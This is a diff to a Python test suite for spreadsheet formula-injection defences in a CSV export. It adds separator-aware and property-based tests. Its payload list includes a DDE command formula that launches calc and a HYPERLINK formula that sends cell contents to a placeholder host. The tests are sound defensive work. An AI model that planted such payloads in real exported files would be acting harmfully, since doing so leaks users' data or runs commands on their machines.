@@ -15,7 +15,10 @@ from followup.log import exports, imports
 
 D = dt.date
 INJECTION = ['=HYPERLINK("http://x/?"&A1,"Click")', "+1 (555) 010-0000", "-2+3", "@SUM(1)", "\t=1",
-             "\r=1", "\n=1", "a,=1", 'Zoë, "quoted"', "'=already quoted", "''+x", "'", "plain"]
+             "\r=1", "\n=1", "a,=1", 'Zoë, "quoted"', "'=already quoted", "''+x", "'", "plain",
+             # a trigger after a separator: a cell when the file is opened with ; or TAB as separator
+             "Acme;=1+1", "x;@SUM(A1)", "y\t=cmd|' /C calc'!A0", "z;-2", "w,+3", "v;'=quoted", "u;''-x",
+             "t;;=1", "s\t\t=1", "r\r\n=1", "q;", "p,", 'o";=1', "Zoë; 'plain'", "n; =1"]
 
 
 def app(uid="a1", company="Acme", events=None, **kw):
@@ -45,10 +48,45 @@ def test_csv_neutralises_every_trigger_and_restores_it():
     assert parsed.log == log
 
 
+def cells_split_by(text: str, separator: str) -> list[str]:
+    """Every cell a spreadsheet could see when it splits the file's lines on ``separator`` alone,
+    without regard to quotes (the CSV's own quote that opens a cell taken off)."""
+    return [c[1:] if c.startswith('"') else c for line in text.splitlines() for c in line.split(separator)]
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+def test_no_cell_starts_with_a_trigger_whatever_the_separator(separator):
+    log = [app(uid=f"a{i}", company=t, role=t, contact=t, said=t,
+               events=[{"uid": f"e{i}", "kind": "other", "date": D(2026, 1, 2), "done": False, "note": t}])
+           for i, t in enumerate(INJECTION)]
+    text = exports.to_csv(log).decode("utf-8-sig")
+    cells = cells_split_by(text, separator)
+    assert len(cells) > 60
+    bad = [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    assert bad == []
+    # the checker can fail: the same payloads, neutralised only at the start of a cell, trip it
+    naive = "\n".join(",".join("'" + t if t.startswith(exports.TRIGGERS) else t for t in INJECTION)
+                       for _ in range(2))
+    assert [c for c in cells_split_by(naive, separator) if c.startswith(("=", "+", "-", "@"))]
+    assert imports.parse_upload("x.csv", exports.to_csv(log)).log == log
+
+
 @pytest.mark.parametrize("value", INJECTION)
 def test_neutralise_restore_inverse(value):
     assert exports.restore(exports.neutralise(value)) == value
-    assert not exports.neutralise(value).startswith(exports.TRIGGERS)
+    out = exports.neutralise(value)
+    assert not out.startswith(exports.TRIGGERS)
+    for sep in exports.SEPARATORS:
+        assert not any(part.startswith(("=", "+", "-", "@")) for part in out.split(sep)), (sep, out)
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.text(alphabet=st.sampled_from(list("'=+-@,;\t\r\n a\"")), max_size=30))
+def test_neutralise_restore_inverse_on_dense_strings(value):
+    out = exports.neutralise(value)
+    assert exports.restore(out) == value
+    for sep in exports.SEPARATORS:
+        assert not any(part.startswith(exports.TRIGGERS) for part in out.split(sep) if part), (sep, out)
 
 
 def test_hand_written_quote_is_kept():
